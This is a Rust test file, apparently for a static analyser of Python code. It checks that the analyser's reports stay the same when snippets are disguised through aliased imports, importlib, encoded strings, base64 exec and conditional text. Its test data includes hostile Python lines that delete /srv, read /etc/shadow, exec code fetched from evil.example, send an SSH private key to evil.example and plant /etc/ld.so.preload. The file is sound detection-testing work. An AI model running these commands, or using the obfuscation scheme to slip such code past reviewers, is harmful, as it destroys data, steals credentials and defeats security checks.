//! Disguises do not change what is said.

use std::collections::BTreeSet;

use super::recorder::said;

/// Modules that a program imports, and the program with `{os}`-like places for them; texts stand between `«` and `»`.
const PROGRAMS: &[(&[&str], &str)] = &[
    (&["os"], "{os}.system(«rm -rf /srv»)"),
    (&["os"], "{os}.remove(«/etc/passwd»)"),
    (&["os"], "{os}.chmod(«/etc», 511)"),
    (&["os"], "{os}.rename(«/etc/passwd», «/tmp/x»)"),
    (&["shutil"], "{shutil}.rmtree(«/usr/lib»)"),
    (&["subprocess"], "{subprocess}.run([«rm», «-rf», «/srv»])"),
    (&["subprocess"], "{subprocess}.check_output(«cat /etc/shadow», shell=True)"),
    (&["pathlib"], "{pathlib}.Path(«/etc/shadow»).read_text()"),
    (&["pathlib"], "({pathlib}.Path(«/etc») / «cron.d»).rmdir()"),
    (&["socket"], "{socket}.create_connection((«evil.example», 4444))"),
    (&["urllib.request"], "exec({urllib.request}.urlopen(«http://evil.example/x»).read())"),
    (&["os", "shutil"], "{shutil}.rmtree({os}.path.expanduser(«~/.config»))"),
    (&["requests"], "{requests}.post(«http://evil.example», data=open(«/root/.ssh/id_rsa»).read())"),
    (&[], "open(«/etc/ld.so.preload», «w»).write(«/tmp/evil.so»)"),
];

struct Random(u64);

impl Random {
    fn next(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(below).unwrap()).unwrap()
    }
}

fn import(module: &str, name: &str, random: &mut Random) -> String {
    match random.next(5) {
        0 => format!("import {module} as {name}\n"),
        1 => format!("import importlib\n{name} = importlib.import_module({module:?})\n"),
        2 => format!("import sys, {module}\n{name} = sys.modules[{module:?}]\n"),
        3 => format!(
            "import importlib as i\n{name} = getattr(i, 'import' + '_module')(''.join({:?}.split()))\n",
            spaced(module)
        ),
        _ => format!("import {module} as a\n{name} = [a][0]\n"),
    }
}

fn spaced(text: &str) -> String {
    text.chars().map(|letter| format!("{letter} ")).collect()
}

fn text(text: &str, random: &mut Random) -> String {
    let at = random.next(text.len() + 1);
    let (before, after) = text.split_at(at);
    match random.next(8) {
        0 => format!("{text:?}"),
        1 => format!("{before:?} + {after:?}"),
        2 => format!("{:?}[::-1]", text.chars().rev().collect::<String>()),
        3 => format!("''.join(map(chr, {:?}))", text.bytes().collect::<Vec<_>>()),
        4 => format!(
            "bytes.fromhex({:?}).decode()",
            text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>()
        ),
        5 => format!("f\"{{{before:?}.replace('x', 'x')}}{after}\""),
        6 => format!("'%s{{}}'.format({after:?}) % {before:?}"),
        _ => format!("''.join([{before:?}, {after:?}])"),
    }
}

fn wrap(imports: &str, body: &str, random: &mut Random) -> String {
    match random.next(8) {
        0 => format!("{imports}{body}\n"),
        1 => format!("{imports}def f():\n    return {body}\nf()\n"),
        2 => format!("{imports}(lambda: {body})()\n"),
        3 => format!("{imports}class C:\n    def __init__(self):\n        {body}\nC()\n"),
        4 => format!("{imports}for _ in [1]:\n    try:\n        {body}\n    finally:\n        pass\n"),
        5 => format!("import base64\nexec(base64.b64decode({:?}))\n", base64(&format!("{imports}{body}\n"))),
        6 => format!("exec(compile({:?}, 'x', 'exec'))\n", format!("{imports}{body}\n")),
        _ => format!("{imports}if __name__ == '__main__':\n    [{body} for _ in range(1)]\n"),
    }
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let held =
            (0..3).fold(0_usize, |sum, at| sum << 8 | usize::from(chunk.get(at).copied().unwrap_or(0)));
        for place in 0..4 {
            out.push(if place <= chunk.len() {
                char::from(DIGITS[held >> (18 - 6 * place) & 63])
            } else {
                '='
            });
        }
    }
    out
}

fn build(modules: &[&str], program: &str, random: Option<&mut Random>) -> String {
    let mut plain = Random(1);
    let disguised = random.is_some();
    let random = random.unwrap_or(&mut plain);
    let (mut imports, mut body) = (String::new(), program.to_owned());
    for (number, module) in modules.iter().enumerate() {
        let name = if disguised { format!("m{number}_{}", random.next(1000)) } else { (*module).to_owned() };
        imports += &if disguised { import(module, &name, random) } else { format!("import {module}\n") };
        body = body.replace(&format!("{{{module}}}"), &name);
    }
    while let (Some(start), Some(end)) = (body.find('«'), body.find('»')) {
        let inner = body[start + '«'.len_utf8()..end].to_owned();
        let literal = if disguised { format!("({})", text(&inner, random)) } else { format!("{inner:?}") };
        body = format!("{}{literal}{}", &body[..start], &body[end + '»'.len_utf8()..]);
    }
    if disguised { wrap(&imports, &body, random) } else { format!("{imports}{body}\n") }
}

/// What is said, without what is said about the disguise: that a text was decoded, and that one was run as code.
fn essence(program: &str) -> BTreeSet<String> {
    let said = said(program).into_iter().filter(|line| line != "Execute Code(Python, None)");
    said.map(|line| line.replace(" [decoded]", "")).collect()
}

#[test]
fn disguises_do_not_change_what_is_said() {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    for (modules, program) in PROGRAMS {
        let plain = essence(&build(modules, program, None));
        assert!(!plain.is_empty(), "nothing is said about {program}");
        for _ in 0..60 {
            let disguised = build(modules, program, Some(&mut random));
            assert_eq!(essence(&disguised), plain, "{disguised}");
        }
    }
}

#[test]
fn text_that_may_be_another_hides_nothing() {
    let more: &[(&[&str], &str)] = &[
        (&["os"], "{os}.execv(«/bin/rm», [«rm», «-rf», «/srv»])"),
        (&["os"], "{os}.execlp(«rm», «rm», «-rf», «/srv»)"),
        (&["os"], "{os}.spawnvp(0, «rm», [«rm», «-rf», «/srv»])"),
        (&["subprocess"], "{subprocess}.run([«rm -rf /srv», «x»], shell=True)"),
        (&["pty"], "{pty}.spawn([«rm», «-rf», «/srv»])"),
    ];
    let mut wrong = Vec::new();
    for (modules, program) in PROGRAMS.iter().chain(more) {
        let plain = essence(&build(modules, program, None));
        for place in 0..program.matches('«').count() {
            for choice in CHOICES {
                let changed = build(modules, &program_with(program, place, choice), None);
                let said = essence(&changed);
                let hidden: Vec<_> = plain.difference(&said).collect();
                if !hidden.is_empty() {
                    wrong.push(format!("{hidden:?} is not said of {changed}but {said:?}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Ways in which a text may be this one or another.
const CHOICES: &[&str] = &["(TEXT if input() else 'w')", "{True: TEXT, False: 'w'}[input() == 'y']"];

/// The program with a choice at one of its texts.
fn program_with(program: &str, place: usize, choice: &str) -> String {
    let Some((at, _)) = program.match_indices('«').nth(place) else { return program.to_owned() };
    let (before, rest) = program.split_at(at);
    let Some((text, after)) = rest.split_once('»') else { return program.to_owned() };
    format!("{before}{}{after}", choice.replace("TEXT", &format!("{text}»")))
}
